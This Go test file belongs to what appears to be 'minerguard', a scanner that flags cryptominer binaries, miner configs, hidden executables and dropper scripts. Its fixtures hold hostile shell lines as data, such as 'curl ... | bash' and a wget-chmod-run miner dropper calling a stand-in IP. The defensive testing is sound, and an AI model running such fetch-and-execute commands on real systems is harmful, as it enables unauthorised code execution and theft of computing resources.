package checks

import (
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/minerguard/minerguard/internal/findings"
	"github.com/minerguard/minerguard/internal/host"
	"github.com/minerguard/minerguard/internal/intel"
)

func readTestdata(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestFilesSuspicious(t *testing.T) {
	xmrigCfg := readTestdata(t, "miner_config/xmrig_config.json")
	cases := []struct {
		name  string
		files map[string]fxFile
		paths []string
		full  bool
		want  []wantFinding
	}{
		{
			name:  "miner binary in hidden temp dir",
			files: map[string]fxFile{"/tmp/.x/kworker": {fakeELF(2, minerStrings), 0o755}},
			want:  []wantFinding{{"files.miner_binary", findings.High, "/tmp/.x/kworker", 0}},
		},
		{
			name:  "real program in /dev/shm",
			files: map[string]fxFile{"/dev/shm/a": {"@/bin/true", 0o755}},
			want:  []wantFinding{{"files.temp_executable", findings.Medium, "/dev/shm/a", 0}},
		},
		{
			name:  "PE in /var/tmp",
			files: map[string]fxFile{"/var/tmp/svchost.exe": {fakePE("hello"), 0o644}},
			want:  []wantFinding{{"files.temp_executable", findings.Medium, "/var/tmp/svchost.exe", 0}},
		},
		{
			name:  "UPX packed in temp wins over temp",
			files: map[string]fxFile{"/tmp/upd": {fakeELF(2, "\x00UPX!\x00"), 0o755}},
			want:  []wantFinding{{"files.packed_executable", findings.Medium, "/tmp/upd", 0}},
		},
		{
			name:  "go build cache and AppImage mounts are allowed",
			files: map[string]fxFile{"/tmp/go-build123/b001/exe/main": {"@/bin/true", 0o755}, "/tmp/.mount_abc/AppRun": {"@/bin/true", 0o755}},
		},
		{
			name:  "hidden dir in home",
			files: map[string]fxFile{"/root/.cache/.sys/update": {"@/bin/true", 0o755}, "/home/alice/.ssh/.x/sshd": {fakeELF(2, ""), 0o755}},
			want: []wantFinding{
				{"files.hidden_executable", findings.Medium, "/root/.cache/.sys/update", 0},
				{"files.hidden_executable", findings.Medium, "/home/alice/.ssh/.x/sshd", 0},
			},
		},
		{
			name: "normal home: tool dirs, venv libraries, compiled programs",
			files: map[string]fxFile{
				"/home/alice/.cargo/bin/rg":                    {"@/bin/true", 0o755},
				"/home/alice/.vscode-server/bin/x/node":        {"@/bin/true", 0o755},
				"/home/alice/.local/share/venv/lib/libfoo.so":  {fakeELF(3, ""), 0o644},
				"/home/alice/bin/mytool":                       {"@/bin/true", 0o755},
				"/home/alice/project/package.json":             {`{"name":"web","version":"1.0.0","dependencies":{"pg":"^8"}}`, 0},
				"/home/alice/.config/Code/User/settings.json":  {`{"editor.fontSize": 14, "http.proxy": "http://proxy.example:3128"}`, 0},
				"/root/notes.txt":                              {"curl https://example.org | sh\n", 0},
				"/home/alice/.local/share/applications/x.desk": {"[Desktop Entry]\n", 0},
			},
		},
		{
			name: "miner in a home subdirectory and its config",
			files: map[string]fxFile{
				"/home/alice/xmrig-6.21.0/xmrig":       {fakeELF(2, minerStrings), 0o755},
				"/home/alice/xmrig-6.21.0/config.json": {xmrigCfg, 0},
			},
			want: []wantFinding{
				{"files.miner_binary", findings.High, "/home/alice/xmrig-6.21.0/xmrig", 0},
				{"files.miner_config", findings.High, "/home/alice/xmrig-6.21.0/config.json", 0},
			},
		},
		{
			name:  "xmr-stak pools.txt in temp",
			files: map[string]fxFile{"/tmp/.cache/pools.txt": {readTestdata(t, "miner_config/pools.txt"), 0}},
			want:  []wantFinding{{"files.miner_config", findings.High, "/tmp/.cache/pools.txt", 0}},
		},
		{
			name: "dropper scripts",
			files: map[string]fxFile{
				"/tmp/i.sh":      {"#!/bin/sh\n# get it\ncurl -fsSL http://203.0.113.5/x.sh | bash\n", 0o755},
				"/tmp/.ICE/x":    {"#!/bin/bash\ncd /tmp\nwget -q http://203.0.113.5/kx -O kx\nchmod +x kx\n./kx -o stratum+tcp://pool.example:3333 -u W\n", 0o755},
				"/tmp/build.sh":  {"#!/bin/sh\ncurl -fsSLo /tmp/go.tgz https://go.dev/dl/go.tgz\ntar -C /usr/local -xzf /tmp/go.tgz\n", 0o755},
				"/var/tmp/a.txt": {"curl http://x | sh\n", 0}, // not a script
			},
			want: []wantFinding{
				{"files.dropper_script", findings.Medium, "/tmp/i.sh", 3},
				{"files.miner_script", findings.High, "/tmp/.ICE/x", 3},
			},
		},
		{
			name:  "--paths: content only",
			files: map[string]fxFile{"/opt/app/bin/svc": {fakeELF(2, minerStrings), 0o755}, "/opt/app/bin/ok": {"@/bin/true", 0o755}, "/opt/app/.hid/x": {"@/bin/true", 0o755}, "/opt/upx/t": {fakeELF(2, "UPX!"), 0o755}},
			paths: []string{"/opt/app", "/opt/upx"},
			want: []wantFinding{
				{"files.miner_binary", findings.High, "/opt/app/bin/svc", 0},
				{"files.hidden_executable", findings.Medium, "/opt/app/.hid/x", 0},
				{"files.packed_executable", findings.Medium, "/opt/upx/t", 0},
			},
		},
		{
			name: "object files and many executables in one directory",
			files: map[string]fxFile{
				"/tmp/ccWAzqzW.o":       {fakeELF(1, ""), 0o644},
				"/tmp/rootfs/usr/bin/a": {"@/bin/true", 0o755}, "/tmp/rootfs/usr/bin/b": {"@/bin/true", 0o755},
				"/tmp/rootfs/usr/bin/c": {"@/bin/true", 0o755}, "/tmp/rootfs/usr/bin/d": {"@/bin/true", 0o755},
				"/tmp/rootfs/usr/bin/e": {"@/bin/true", 0o755}, "/tmp/rootfs/usr/bin/f": {"@/bin/true", 0o755},
				"/tmp/rootfs/usr/bin/xmrig": {fakeELF(2, minerStrings), 0o755},
			},
			want: []wantFinding{
				{"files.temp_executable", findings.Medium, "/tmp/rootfs/usr/bin", 0},
				{"files.miner_binary", findings.High, "/tmp/rootfs/usr/bin/xmrig", 0},
			},
		},
		{
			name:  "minerguard's own builds carry its intel and are not miners",
			files: map[string]fxFile{"/tmp/minerguard": {"@" + testExecutable(), 0o755}},
		},
		{
			name:  "not searched by default",
			files: map[string]fxFile{"/opt/app/bin/svc": {fakeELF(2, minerStrings), 0o755}},
		},
		{
			name: "--full: whole root, system dirs only for content",
			files: map[string]fxFile{
				"/usr/bin/upxed": {fakeELF(2, "UPX!"), 0o755}, "/usr/local/sbin/.x/m": {fakeELF(2, minerStrings), 0o755},
				"/proc/1/exe": {fakeELF(2, minerStrings), 0o755},
			},
			full: true,
			want: []wantFinding{{"files.miner_binary", findings.High, "/usr/local/sbin/.x/m", 0}},
		},
		{
			name: "symlinks are not followed, loops end",
			files: map[string]fxFile{
				"/opt/real/m":   {fakeELF(2, minerStrings), 0o755},
				"/tmp/link":     {"->/opt/real", 0},
				"/tmp/loop/a":   {"->..", 0},
				"/tmp/loop/b":   {"->b", 0},
				"/tmp/miner":    {"->/opt/real/m", 0},
				"/home/bob/.x/": {"", 0},
			},
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			env, _ := filesFixture(t, c.files)
			env.Paths, env.Full = c.paths, c.full
			got := runFileCheck(t, "files.suspicious", env)
			checkFindings(t, got, c.want)
			for _, f := range got {
				if f.Signal == findings.SignalStatus {
					continue
				}
				if f.Rule == "files.miner_binary" || strings.HasSuffix(f.Rule, "_executable") && f.Evidence.Details["executables"] == "" {
					if len(f.Evidence.SHA256) != 64 {
						t.Errorf("%s: sha256 %q", f.Rule, f.Evidence.SHA256)
					}
				}
				if f.Rule == "files.miner_binary" && (f.Signal != findings.SignalIdentity || len(f.Evidence.Match) == 0) {
					t.Errorf("miner_binary signal %s match %v", f.Signal, f.Evidence.Match)
				}
			}
		})
	}
}

// testExecutable is this test binary: a Go program of minerguard's module.
func testExecutable() string {
	p, err := os.Executable()
	if err != nil {
		return "/nonexistent"
	}
	return p
}

func TestFilesSuspiciousEvidence(t *testing.T) {
	env, _ := filesFixture(t, map[string]fxFile{
		"/tmp/.ICE/x":             {"#!/bin/bash\nwget -q http://203.0.113.5/kx -O kx\nchmod +x kx\n./kx -o stratum+tcp://pool.example:3333\n", 0o755},
		"/tmp/c/config.json":      {readTestdata(t, "miner_config/xmrig_config.json"), 0},
		"/tmp/\nnewline/kworker ": {fakeELF(2, minerStrings), 0o755},
	})
	got := runFileCheck(t, "files.suspicious", env)
	byRule := map[string]findings.Finding{}
	for _, f := range got {
		byRule[f.Rule] = f
	}
	s := byRule["files.miner_script"]
	if s.Evidence.URL != "http://203.0.113.5/kx" || s.Evidence.Domain != "203.0.113.5" || !strings.HasPrefix(s.Evidence.Content, "wget -q") {
		t.Errorf("script evidence %+v", s.Evidence)
	}
	c := byRule["files.miner_config"]
	if c.Evidence.Remote == "" && c.Evidence.URL == "" && c.Evidence.Domain == "" {
		t.Errorf("config evidence has no pool: %+v", c.Evidence)
	}
	b := byRule["files.miner_binary"]
	if b.Evidence.Path != "/tmp/\nnewline/kworker " || strings.Contains(b.Title, "\n") {
		t.Errorf("binary path %q title %q", b.Evidence.Path, b.Title)
	}
}

func TestWalkerLimits(t *testing.T) {
	root := t.TempDir()
	deep := filepath.Join(root, "a", "b", "c", "d", "e")
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 50; i++ {
		if err := os.WriteFile(filepath.Join(root, "a", strings.Repeat("f", i+1)), []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(deep, "deepfile"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(root, filepath.Join(root, "a", "b", "up")); err != nil {
		t.Fatal(err)
	}
	h, _ := host.Offline(root)
	count := func(budget, depth int) (int, bool, bool) {
		w := newWalker(h.FS(), budget, nil)
		n, sawDeep := 0, false
		w.walk(context.Background(), "/", walkLimits{maxDepth: depth}, func(p string, _ fs.DirEntry, _ int) {
			n++
			if strings.HasSuffix(p, "deepfile") {
				sawDeep = true
			}
		})
		// The same root again is not walked twice.
		w.walk(context.Background(), "/a", walkLimits{maxDepth: depth}, func(string, fs.DirEntry, int) { n += 1000 })
		return n, sawDeep, w.truncated
	}
	if n, deepSeen, tr := count(1000, 10); n != 51 || !deepSeen || tr {
		t.Errorf("full walk: %d files deep=%v truncated=%v", n, deepSeen, tr)
	}
	if _, deepSeen, _ := count(1000, 3); deepSeen {
		t.Error("depth limit ignored")
	}
	if n, _, tr := count(10, 10); n > 10 || !tr {
		t.Errorf("budget 10: %d files truncated=%v", n, tr)
	}
}

func TestFilesSearchTruncatedStatus(t *testing.T) {
	f := searchTruncated("files.suspicious", 5)
	if f.Severity != findings.Info || f.Signal != findings.SignalStatus || f.Rule != "files.search_truncated" {
		t.Errorf("%+v", f)
	}
}

func TestClassifyExe(t *testing.T) {
	cases := []struct {
		name string
		data string
		want exeKind
	}{
		{"exec", fakeELF(2, ""), exeELF},
		{"shared object", fakeELF(3, ""), exeELFLib},
		{"relocatable", fakeELF(1, ""), exeELFObj},
		{"pe", fakePE(""), exePE},
		{"mz without pe", "MZ" + strings.Repeat("\x00", 100), exeNone},
		{"pe offset past header", "MZ" + strings.Repeat("\x00", 0x3a) + "\xff\xff\x00\x00", exeNone},
		{"text", "#!/bin/sh\necho hi\n", exeNone},
		{"short elf", "\x7fELF", exeNone},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := strings.NewReader(c.data)
			if got := classifyExe(readHead(r, headerSize), r); got != c.want {
				t.Errorf("got %v want %v", got, c.want)
			}
		})
	}
	if b, err := os.ReadFile("/bin/true"); err == nil {
		r := strings.NewReader(string(b))
		if got := classifyExe(readHead(r, headerSize), r); got != exeELF {
			t.Errorf("/bin/true (PIE) classified %v", got)
		}
	}
}

func TestScanScript(t *testing.T) {
	fi, err := loadFilesIntel(intel.MustLoad())
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		script string
		line   int
		ok     bool
	}{
		{"curl -s http://a/b | sh", 1, true},
		{"wget -qO- http://a/b|sudo bash -s", 1, true},
		{"x\nbash -c \"$(curl -fsSL http://a/i.sh)\"", 2, true},
		{"sh <(wget -O - http://a)", 1, true},
		{"wget http://a/m -O /tmp/m\necho\nchmod +x /tmp/m\n/tmp/m", 1, true},
		{"curl -o f https://a/f; chmod 755 f; ./f", 1, true},
		{"# curl http://a | sh\necho done", 0, false},
		{"curl -o /tmp/x.tgz https://a/x.tgz\ntar xzf /tmp/x.tgz", 0, false},
		{"echo curling | sh", 0, false},
		{"chmod +x a\ncurl http://a", 0, false},
		{"curl http://a/x | grep shell | tee out", 0, false},
	}
	for _, c := range cases {
		v, ok := scanScript(fi, []byte(c.script))
		if ok != c.ok || v.line != c.line {
			t.Errorf("%q: ok=%v line=%d, want %v %d", c.script, ok, v.line, c.ok, c.line)
		}
	}
}

func TestParseMountinfo(t *testing.T) {
	in := "22 1 8:1 / / rw,relatime - ext4 /dev/sda1 rw\n" +
		"23 22 0:21 / /proc rw - proc proc rw\n" +
		"24 22 0:22 / /sys rw - sysfs sysfs rw\n" +
		"25 22 0:40 / /mnt/my\\040share rw - cifs //srv/x rw\n" +
		"26 22 0:41 / /tmp rw - tmpfs tmpfs rw\n" +
		"garbage line\n27 22 0:1 / - -\n"
	got := parseMountinfo([]byte(in), []string{"proc", "sysfs", "cifs"})
	want := []string{"/mnt/my share", "/proc", "/sys"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("got %q want %q", got, want)
	}
}

func TestFilesIntelLoads(t *testing.T) {
	fi, err := loadFilesIntel(intel.MustLoad())
	if err != nil {
		t.Fatal(err)
	}
	if len(fi.Web.Hosts) < 100 || len(fi.Web.Patterns) == 0 || fi.keystoreRE == nil || len(fi.Managers) == 0 || len(fi.History.Files) == 0 {
		t.Errorf("files.json looks empty: %d hosts", len(fi.Web.Hosts))
	}
	if _, ok := fi.webHost("www.authedmine.com"); !ok {
		t.Error("coinhive.com subdomain not listed")
	}
	if _, ok := fi.webHost("googletagmanager.com"); ok {
		t.Error("googletagmanager.com listed")
	}
}

func FuzzScanScript(f *testing.F) {
	fi, err := loadFilesIntel(intel.MustLoad())
	if err != nil {
		f.Fatal(err)
	}
	f.Add([]byte("curl http://a | sh\nchmod +x a"))
	f.Add([]byte("wget\x00|\n|sh"))
	f.Fuzz(func(t *testing.T, b []byte) {
		v, ok := scanScript(fi, b)
		if ok && v.line <= 0 {
			t.Fatalf("finding without a line: %+v", v)
		}
	})
}

func FuzzFilesMountinfo(f *testing.F) {
	f.Add([]byte("23 22 0:21 / /proc rw - proc proc rw\n"))
	f.Add([]byte("1 2 3 4 \\0 - proc\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, m := range parseMountinfo(b, []string{"proc"}) {
			if !strings.HasPrefix(m, "/") {
				t.Fatalf("relative mount point %q", m)
			}
		}
	})
}

func FuzzClassifyExe(f *testing.F) {
	f.Add([]byte(fakeELF(3, "")))
	f.Add([]byte(fakePE("")))
	f.Fuzz(func(t *testing.T, b []byte) {
		r := strings.NewReader(string(b))
		_ = classifyExe(readHead(r, headerSize), r)
	})
}
